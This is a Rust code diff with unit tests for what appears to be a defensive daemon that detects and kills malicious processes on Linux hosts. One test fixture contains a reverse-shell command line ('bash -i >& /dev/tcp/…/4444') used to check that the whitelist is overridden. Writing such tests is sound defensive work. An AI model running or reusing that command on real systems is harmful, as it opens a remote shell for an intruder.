+    ) -> Result<Option<Delivery>> {
+        if !self.config.auto_kill {
+            info!("Auto-kill disabled, would kill process tree of PID {} ({})", process.pid, reason);
+            return Ok(None);
         }
 
-        // Record kill action
-        self.record_kill_action(process, reason, confidence).await?;
+        // Kill (or stop) descendants first with the strongest configured signal so the root can't respawn them
+        let last = self.config.kill_signals.last();
+        let mut monitor = ProcessMonitor::new();
+        monitor.refresh();
+        for child in monitor.get_child_processes(process.pid).into_iter().rev() {
+            if signal::kill(Pid::from_raw(child), last).is_ok() {
+                info!("Sent {} to child PID {} of PID {}", last.as_str(), child, process.pid);
+            }
+        }
 
-        Ok(true)
+        self.kill_direct(process, reason, confidence).await
     }
 
-    async fn record_kill_action(
+    async fn kill_direct(
         &self,
         process: &ProcessInfo,
         reason: &str,
         confidence: f32,
-    ) -> Result<()> {
-        let action = KillAction {
-            id: 0,
-            pid: process.pid,
-            uid: process.uid,
-            binary_path: process.binary_path.clone(),
-            reason: reason.to_string(),
-            confidence,
-            timestamp: Utc::now(),
-        };
+    ) -> Result<Option<Delivery>> {
+        if !self.config.auto_kill {
+            info!("Auto-kill disabled, would kill PID {} ({})", process.pid, reason);
+            return Ok(None);
+        }
 
-        self.db.record_kill_action(&action).await?;
-        Ok(())
+        info!("Killing process PID={}, binary={}, reason={}, confidence={:.2}", 
+              process.pid, process.binary_path, reason, confidence);
+
+        // Initial signal, then escalation (SIGTERM/SIGKILL by default), verifying the PID is gone after each
+        let signals = self.config.kill_signals;
+        let result = terminate(process.pid, signals, self.config.kill_timeouts).await;
+        let delivery = kill_outcome(&result, signals).map(|(signal_sent, outcome)| Delivery { signal_sent, outcome });
+        match result? {
+            TerminationOutcome::AlreadyGone => {
+                info!("PID {} exited before it could be killed", process.pid);
+            }
+            TerminationOutcome::Terminated => info!("PID {} exited after {}", process.pid, signals.initial.as_str()),
+            TerminationOutcome::Killed => warn!("PID {} required {}", process.pid, signals.last().as_str()),
+            TerminationOutcome::Stopped => warn!("PID {} stopped (SIGSTOP), left in place for inspection", process.pid),
+        }
+
+        Ok(delivery)
+    }
+
+    fn publish_stopped(&self, process: &ProcessInfo, reason: &str, confidence: f32) {
+        if let Some(ref events) = self.events {
+            events.publish(DaemonEvent::new(
+                AlertSeverity::Critical,
+                EventKind::Kill,
+                format!("Stopped ({}, confidence {:.0}%)", reason, confidence * 100.0),
+            ).with_process(process).with_confidence(confidence));
+        }
     }
 
     pub fn should_kill(&self, confidence: f32) -> bool {
@@ -271,16 +922,444 @@ impl SafeKillEngine {
     }
 }
 
+/// What a stopping action sent and achieved, for the kill record
+#[derive(Debug, Clone, Copy)]
+struct Delivery {
+    signal_sent: Option<&'static str>,
+    outcome: KillOutcome,
+}
+
+impl Delivery {
+    /// Stopped through its manager, which reports success once the process is down
+    fn manager(command: &'static str) -> Self {
+        Self { signal_sent: Some(command), outcome: KillOutcome::Terminated }
+    }
+}
+
+/// Why a manager lookup failed: the process may simply be gone
+fn lookup_failure(pid: i32, detail: &str) -> String {
+    if Path::new(&format!("/proc/{}", pid)).exists() {
+        format!("PID {}", detail)
+    } else {
+        "process already exited".to_string()
+    }
+}
+
 impl From<&Config> for SafeKillConfig {
     fn from(config: &Config) -> Self {
         Self {
             auto_kill: config.auto_kill,
             dry_run: config.dry_run,
-            audit_only: config.audit_only,
+            // Learning mode observes without enforcing
+            audit_only: config.audit_only || config.learning_report.enabled,
             canary_mode: config.canary_mode,
             threat_confidence_threshold: config.threat_confidence_threshold,
             high_confidence_threshold: config.high_confidence_threshold,
+            kill_timeouts: KillTimeouts::from(config),
+            kill_signals: KillSignals::from(config),
+            manager_fallback: config.manager_fallback,
+            on_permission_denied: config.on_permission_denied,
+            require_corroboration: config.require_corroboration,
+            collect_evidence: config.collect_evidence,
+            evidence_dir: PathBuf::from(&config.evidence_dir),
+            pre_action_hook: PreActionHook::from_config(config),
+            // Validated by Config::load
+            maintenance_windows: MaintenanceWindows::from_config(&config.maintenance_windows).unwrap_or_default(),
+            confidence_bands: config.confidence_bands.clone(),
+            notify_only_cgroups: match config.build_users.relaxed_cgroup_action {
+                RelaxedCgroupAction::Notify => config.build_users.relaxed_cgroup_prefixes.clone(),
+                RelaxedCgroupAction::Relax => Vec::new(),
+            },
         }
     }
 }
 
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::process::Command;
+
+    async fn engine(manager_fallback: ManagerFallback) -> SafeKillEngine {
+        let config = SafeKillConfig {
+            auto_kill: true,
+            manager_fallback,
+            ..SafeKillConfig::from(&Config::default())
+        };
+        SafeKillEngine::new(
+            IntelligenceDB::new_in_memory().await.unwrap(),
+            Pm2Integration::new(),
+            SystemdIntegration::new(),
+            NginxIntegration::new(),
+            DockerIntegration::new(Default::default(), std::time::Duration::from_secs(1)),
+            WhitelistManager::new(),
+            config,
+        )
+    }
+
+    #[tokio::test]
+    async fn single_signal_is_not_enough_when_corroboration_required() {
+        let process = ProcessInfo {
+            pid: i32::MAX,
+            binary_path: "/tmp/.x/kworker".to_string(),
+            ..Default::default()
+        };
+        let one: BTreeSet<_> = [SignalCategory::CpuAbuse].into();
+        let two: BTreeSet<_> = [SignalCategory::CpuAbuse, SignalCategory::SuspiciousLocation].into();
+
+        let mut engine = engine(ManagerFallback::Notify).await;
+        assert_eq!(engine.decide_action(&process, 0.9, &one).await, KillActionType::KillDirect);
+
+        engine.config.require_corroboration = 2;
+        assert_eq!(engine.decide_action(&process, 0.9, &one).await, KillActionType::Notify);
+        assert_eq!(engine.decide_action(&process, 0.9, &two).await, KillActionType::KillDirect);
+    }
+
+    #[tokio::test]
+    async fn maintenance_window_downgrades_to_notify() {
+        let process = ProcessInfo {
+            pid: i32::MAX,
+            binary_path: "/tmp/.x/kworker".to_string(),
+            ..Default::default()
+        };
+        let signals: BTreeSet<_> = [SignalCategory::CpuAbuse].into();
+
+        let mut engine = engine(ManagerFallback::Notify).await;
+        // start == end wraps the whole day
+        engine.config.maintenance_windows = MaintenanceWindows::from_config(&[crate::config::MaintenanceWindowConfig {
+            name: "backup".to_string(),
+            cron: None,
+            duration_minutes: 60,
+            start: Some("00:00".to_string()),
+            end: Some("00:00".to_string()),
+        }]).unwrap();
+        assert_eq!(engine.decide_action(&process, 0.9, &signals).await, KillActionType::Notify);
+    }
+
+    #[tokio::test]
+    async fn confidence_bands_override_the_built_in_choice() {
+        let staged = ProcessInfo {
+            pid: i32::MAX,
+            start_time: 7,
+            binary_path: "/tmp/.x/kworker".to_string(),
+            ..Default::default()
+        };
+        let elsewhere = ProcessInfo { binary_path: "/srv/app/worker".to_string(), ..staged.clone() };
+        let signals: BTreeSet<_> = [SignalCategory::CpuAbuse].into();
+        let medium = (Config::default().threat_confidence_threshold + Config::default().high_confidence_threshold) / 2.0;
+
+        let mut engine = engine(ManagerFallback::Notify).await;
+        assert_eq!(engine.decide_action(&staged, medium, &signals).await, KillActionType::KillDirect);
+        assert_eq!(engine.decide_action(&elsewhere, medium, &signals).await, KillActionType::Notify);
+        assert_eq!(engine.take_escalation(&staged), None);
+
+        engine.config.confidence_bands.medium = BandAction::Notify;
+        assert_eq!(engine.decide_action(&staged, medium, &signals).await, KillActionType::Notify);
+
+        engine.config.confidence_bands.medium = BandAction::Enforce;
+        assert_eq!(engine.decide_action(&elsewhere, medium, &signals).await, KillActionType::KillTree);
+        // Below the threat threshold the band doesn't apply
+        assert_eq!(engine.decide_action(&elsewhere, 0.1, &signals).await, KillActionType::Notify);
+
+        engine.config.confidence_bands.medium = BandAction::NotifyThenEnforce;
+        assert_eq!(engine.decide_action(&staged, medium, &signals).await, KillActionType::Notify);
+        // A reused PID doesn't inherit the escalation
+        assert_eq!(engine.take_escalation(&ProcessInfo { start_time: 8, ..staged.clone() }), None);
+        assert_eq!(engine.decide_action(&staged, medium, &signals).await, KillActionType::Notify);
+        assert_eq!(engine.take_escalation(&staged), Some(KillActionType::KillDirect));
+        assert_eq!(engine.take_escalation(&staged), None);
+
+        // Corroboration still gates the escalation
+        engine.config.require_corroboration = 2;
+        assert_eq!(engine.decide_action(&staged, medium, &signals).await, KillActionType::Notify);
+        assert_eq!(engine.take_escalation(&staged), None);
+    }
+
+    #[tokio::test]
+    async fn pause_downgrades_until_lifted() {
+        let process = ProcessInfo {
+            pid: i32::MAX,
+            binary_path: "/tmp/.x/kworker".to_string(),
+            ..Default::default()
+        };
+        let signals: BTreeSet<_> = [SignalCategory::CpuAbuse].into();
+
+        let mut engine = engine(ManagerFallback::Notify).await;
+        engine.set_paused(true);
+        assert_eq!(engine.decide_action(&process, 0.9, &signals).await, KillActionType::Notify);
+        engine.set_paused(false);
+        assert_eq!(engine.decide_action(&process, 0.9, &signals).await, KillActionType::KillDirect);
+    }
+
+    #[tokio::test]
+    async fn audit_only_logs_decisions_and_plain_dry_run_does_not() {
+        let process = ProcessInfo {
+            pid: i32::MAX,
+            binary_path: "/tmp/.x/kworker".to_string(),
+            ..Default::default()
+        };
+        let since = Utc::now() - chrono::Duration::minutes(1);
+
+        let mut engine = engine(ManagerFallback::Notify).await;
+        engine.config.audit_only = true;
+        let signals: BTreeSet<_> = [SignalCategory::CpuAbuse, SignalCategory::SuspiciousLocation].into();
+        engine.decide_action(&process, 0.9, &signals).await;
+        assert!(!engine.execute_action(KillActionType::KillDirect, &process, "CPU abuse", 0.9).await.unwrap());
+        let decisions = engine.db.get_decisions(since, 10).await.unwrap();
+        assert_eq!(decisions.len(), 1);
+        assert_eq!((decisions[0].action.as_str(), decisions[0].binary_path.as_str()), ("KillDirect", "/tmp/.x/kworker"));
+        assert_eq!(decisions[0].signals, "CpuAbuse, SuspiciousLocation");
+        // Nothing was stopped, so nothing is in the kill log
+        assert_eq!(engine.db.get_daily_summary(since).await.unwrap().killed_count, 0);
+
+        // Decided again on the next cycle: already recorded
+        assert!(!engine.execute_action(KillActionType::KillDirect, &process, "CPU abuse", 0.9).await.unwrap());
+        assert_eq!(engine.db.get_decisions(since, 10).await.unwrap().len(), 1);
+
+        // audit_only (or learning_report) still records under --dry-run; a reused PID is a new process
+        engine.config.dry_run = true;
+        let reused = ProcessInfo { start_time: 1, ..process.clone() };
+        assert!(!engine.execute_action(KillActionType::KillDirect, &reused, "CPU abuse", 0.9).await.unwrap());
+        assert_eq!(engine.db.get_decisions(since, 10).await.unwrap().len(), 2);
+
+        engine.config.audit_only = false;
+        let restarted = ProcessInfo { start_time: 2, ..process.clone() };
+        assert!(!engine.execute_action(KillActionType::KillDirect, &restarted, "CPU abuse", 0.9).await.unwrap());
+        assert_eq!(engine.db.get_decisions(since, 10).await.unwrap().len(), 2);
+    }
+
+    #[tokio::test]
+    async fn missing_unit_with_notify_fallback_leaves_process_running() {
+        let mut child = Command::new("sleep").arg("30").spawn().unwrap();
+        let process = ProcessInfo {
+            pid: child.id() as i32,
+            binary_path: "/usr/bin/sleep".to_string(),
+            ..Default::default()
+        };
+
+        let mut engine = engine(ManagerFallback::Notify).await;
+        let stopped = engine.execute_action(KillActionType::StopUnit, &process, "test", 0.99).await.unwrap();
+
+        assert!(!stopped);
+        assert!(child.try_wait().unwrap().is_none(), "process was killed despite notify fallback");
+        child.kill().unwrap();
+        child.wait().unwrap();
+    }
+
+    #[tokio::test]
+    async fn evidence_is_collected_and_process_resumed_when_not_stopped() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut child = Command::new("sleep").arg("30").spawn().unwrap();
+        let pid = child.id() as i32;
+        let process = ProcessInfo { pid, binary_path: "/usr/bin/sleep".to_string(), ..Default::default() };
+
+        let mut engine = engine(ManagerFallback::Notify).await;
+        engine.config.collect_evidence = true;
+        engine.config.evidence_dir = dir.path().to_path_buf();
+        let stopped = engine.execute_action(KillActionType::StopUnit, &process, "test", 0.99).await.unwrap();
+        assert!(!stopped);
+
+        let evidence = engine.db.get_evidence_for_pid(pid).await.unwrap();
+        assert_eq!(evidence.len(), 1);
+        assert!(Path::new(&evidence[0].directory).join("bundle.json").exists());
+        assert!(evidence[0].binary_sha256.is_some());
+
+        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+        assert_ne!(crate::termination::process_state(pid), Some('T'), "process left frozen");
+        child.kill().unwrap();
+        child.wait().unwrap();
+    }
+
+    #[tokio::test]
+    async fn frozen_process_is_resumed_so_sigterm_lands() {
+        let dir = tempfile::tempdir().unwrap();
+        // Handled signals stay pending while a process is stopped
+        let mut child = Command::new("sh").args(["-c", "trap 'exit 3' TERM; while :; do sleep 0.1; done"]).spawn().unwrap();
+        let process = ProcessInfo { pid: child.id() as i32, binary_path: "/bin/sh".to_string(), ..Default::default() };
+        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+
+        let mut engine = engine(ManagerFallback::Notify).await;
+        engine.config.collect_evidence = true;
+        engine.config.evidence_dir = dir.path().to_path_buf();
+        engine.config.kill_timeouts.sigterm = std::time::Duration::from_secs(10);
+        let started = std::time::Instant::now();
+        assert!(engine.execute_action(KillActionType::KillDirect, &process, "test", 0.99).await.unwrap());
+
+        // Ended by SIGTERM, not by escalating after the grace period
+        assert!(started.elapsed() < std::time::Duration::from_secs(5), "SIGTERM sat pending on a stopped process");
+        assert_eq!(child.wait().unwrap().code(), Some(3));
+    }
+
+    #[tokio::test]
+    async fn denylisted_hash_is_killed_even_when_whitelisted() {
+        use sha2::{Digest, Sha256};
+
+        let mut child = Command::new("sleep").arg("30").spawn().unwrap();
+        let pid = child.id() as i32;
+        let binary = std::fs::read(format!("/proc/{}/exe", pid)).unwrap();
+        let process = ProcessInfo { pid, binary_path: "/usr/bin/sleep".to_string(), ..Default::default() };
+
+        let mut engine = engine(ManagerFallback::Notify).await;
+        engine.whitelist.add_manual_entry(".*sleep.*".to_string());
+        engine.config.require_corroboration = 3;
+        assert_eq!(engine.decide_action(&process, 0.1, &BTreeSet::new()).await, KillActionType::Skip);
+
+        engine.set_denylist(Denylist::from_config(&crate::config::DenylistConfig {
+            sha256: vec![hex::encode(Sha256::digest(&binary))],
+            ..Default::default()
+        }).unwrap());
+        let action = engine.decide_action(&process, 0.1, &BTreeSet::new()).await;
+        assert_eq!(action, KillActionType::KillTree);
+
+        assert!(engine.execute_action(action, &process, "denylisted", 1.0).await.unwrap());
+        let status = child.wait().unwrap();
+        assert!(!status.success(), "denylisted process was not killed");
+    }
+
+    #[tokio::test]
+    async fn strong_signal_overrides_whitelist_per_policy() {
+        use crate::config::WhitelistConfig;
+        use crate::whitelist_override::WhitelistOverride;
+
+        let process = ProcessInfo {
+            pid: i32::MAX,
+            binary_path: "/usr/bin/node".to_string(),
+            command_line: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1".to_string(),
+            ..Default::default()
+        };
+        let policy = |action| WhitelistOverride::new(&WhitelistConfig {
+            override_action: action,
+            override_min_strength: 0.8,
+            ..Default::default()
+        }, Vec::new());
+
+        let mut engine = engine(ManagerFallback::Notify).await;
+        engine.whitelist.add_manual_entry("^/usr/bin/node$".to_string());
+        // Same as the config default
+        assert_eq!(engine.decide_action(&process, 0.9, &BTreeSet::new()).await, KillActionType::Notify);
+
+        engine.set_whitelist_override(policy(WhitelistOverrideAction::Notify));
+        assert_eq!(engine.decide_action(&process, 0.9, &BTreeSet::new()).await, KillActionType::Notify);
+
+        engine.set_whitelist_override(policy(WhitelistOverrideAction::Enforce));
+        assert_eq!(engine.decide_action(&process, 0.9, &BTreeSet::new()).await, KillActionType::KillTree);
+
+        engine.set_whitelist_override(policy(WhitelistOverrideAction::Off));
+        assert_eq!(engine.decide_action(&process, 0.9, &BTreeSet::new()).await, KillActionType::Skip);
+
+        // Without a strong signal the whitelist still wins
+        let plain = ProcessInfo { command_line: "node server.js".to_string(), ..process.clone() };
+        engine.set_whitelist_override(policy(WhitelistOverrideAction::Enforce));
+        assert_eq!(engine.decide_action(&plain, 0.9, &BTreeSet::new()).await, KillActionType::Skip);
+    }
+
+    #[tokio::test]
+    async fn failed_audit_write_disables_enforcement() {
+        let mut child = Command::new("sleep").arg("30").spawn().unwrap();
+        let process = ProcessInfo { pid: child.id() as i32, binary_path: "/usr/bin/sleep".to_string(), ..Default::default() };
+
+        let mut engine = engine(ManagerFallback::Notify).await;
+        // A database that rejects every write
+        engine.db.close().await;
+
+        let err = engine.execute_action(KillActionType::KillDirect, &process, "test", 0.99).await.unwrap_err();
+        let disabled = err.downcast_ref::<EnforcementDisabled>().unwrap();
+        assert!(disabled.newly_disabled);
+        assert!(engine.enforcement_disabled());
+        assert!(child.try_wait().unwrap().is_none(), "process was killed without an audit record");
+
+        // Still refused, but only the first failure asks for an alert
+        let err = engine.execute_action(KillActionType::KillTree, &process, "test", 0.99).await.unwrap_err();
+        assert!(!err.downcast_ref::<EnforcementDisabled>().unwrap().newly_disabled);
+        // Notify needs no record
+        assert!(!engine.execute_action(KillActionType::Notify, &process, "test", 0.99).await.unwrap());
+
+        child.kill().unwrap();
+        child.wait().unwrap();
+    }
+
+    #[tokio::test]
+    async fn notify_only_cgroups_are_never_stopped() {
+        let agent = ProcessInfo {
+            pid: i32::MAX,
+            binary_path: "/tmp/build/cc1plus".to_string(),
+            cgroup: "/kubepods.slice/kubepods-burstable.slice/ci-runner/build.scope".to_string(),
+            ..Default::default()
+        };
+        let mut engine = engine(ManagerFallback::Notify).await;
+        assert!(engine.decide_action(&agent, 0.95, &BTreeSet::new()).await.stops_process());
+        engine.config.notify_only_cgroups = vec!["/kubepods.slice/kubepods-burstable.slice/ci-".to_string()];
+        assert_eq!(engine.decide_action(&agent, 0.95, &BTreeSet::new()).await, KillActionType::Notify);
+        let elsewhere = ProcessInfo { cgroup: "/system.slice/cron.service".to_string(), ..agent.clone() };
+        assert!(engine.decide_action(&elsewhere, 0.95, &BTreeSet::new()).await.stops_process());
+    }
+
+    #[tokio::test]
+    async fn permission_denied_is_not_retried_until_restart() {
+        let process = ProcessInfo { pid: i32::MAX, start_time: 100, binary_path: "/tmp/.x/xmrig".to_string(), ..Default::default() };
+        let mut engine = engine(ManagerFallback::Notify).await;
+        engine.config.on_permission_denied = PermissionDeniedPolicy::AlertOnce;
+        assert_eq!(engine.decide_action(&process, 0.95, &BTreeSet::new()).await, KillActionType::KillDirect);
+
+        let refused = NotPermitted { pid: process.pid, signal: "SIGTERM" };
+        let err = engine.handle_not_permitted(refused, &process, "test", 0.95).await.unwrap_err();
+        assert!(err.downcast_ref::<NotPermitted>().is_some());
+        assert_eq!(engine.decide_action(&process, 0.95, &BTreeSet::new()).await, KillActionType::Skip);
+
+        // A new process under the same PID is fair game, and exited ones are forgotten
+        let reused = ProcessInfo { start_time: 200, ..process.clone() };
+        assert_eq!(engine.decide_action(&reused, 0.95, &BTreeSet::new()).await, KillActionType::KillDirect);
+        engine.prune_denylist_cache(&[reused]);
+        assert!(!engine.is_not_permitted(&process));
+
+        // retry: back to failing every cycle
+        engine.config.on_permission_denied = PermissionDeniedPolicy::Retry;
+        let refused = NotPermitted { pid: process.pid, signal: "SIGTERM" };
+        assert!(engine.handle_not_permitted(refused, &process, "test", 0.95).await.is_err());
+        assert!(!engine.is_not_permitted(&process));
+    }
+
+    #[tokio::test]
+    async fn kill_record_is_withdrawn_when_nothing_was_stopped() {
+        let process = ProcessInfo { pid: i32::MAX, binary_path: "/tmp/gone".to_string(), ..Default::default() };
+        let mut engine = engine(ManagerFallback::Notify).await;
+        assert!(!engine.execute_action(KillActionType::StopUnit, &process, "test", 0.99).await.unwrap());
+        assert_eq!(engine.db.get_daily_summary(Utc::now() - chrono::Duration::hours(1)).await.unwrap().killed_count, 0);
+    }
+
+    #[tokio::test]
+    async fn notify_fallback_reports_the_missing_manager_and_skip_does_not() {
+        let process = ProcessInfo { pid: i32::MAX, binary_path: "/tmp/gone".to_string(), ..Default::default() };
+        for (fallback, notified) in [(ManagerFallback::Notify, true), (ManagerFallback::Skip, false)] {
+            let mut engine = engine(fallback).await;
+            let events = EventBus::new();
+            let mut receiver = events.subscribe();
+            engine.set_event_bus(events);
+            assert!(!engine.execute_action(KillActionType::StopPm2, &process, "test", 0.99).await.unwrap());
+            let event = receiver.try_recv().ok();
+            assert_eq!(event.is_some(), notified, "{:?}", fallback);
+            if let Some(event) = event {
+                assert!(event.message.starts_with("PM2 app not found"), "{}", event.message);
+            }
+        }
+    }
+
+    #[tokio::test]
+    async fn pre_action_hook_veto_leaves_process_running() {
+        let mut child = Command::new("sleep").arg("30").spawn().unwrap();
+        let process = ProcessInfo { pid: child.id() as i32, binary_path: "/usr/bin/sleep".to_string(), ..Default::default() };
+
+        let mut engine = engine(ManagerFallback::Notify).await;
+        engine.config.pre_action_hook = Some(PreActionHook {
+            path: PathBuf::from("/bin/false"),
+            timeout: std::time::Duration::from_secs(5),
+            on_failure: crate::config::HookFailurePolicy::FailOpen,
+        });
+        let stopped = engine.execute_action(KillActionType::KillDirect, &process, "test", 0.99).await.unwrap();
+
+        assert!(!stopped);
+        assert!(child.try_wait().unwrap().is_none(), "process was killed despite the hook veto");
+        child.kill().unwrap();
+        child.wait().unwrap();
+    }
+}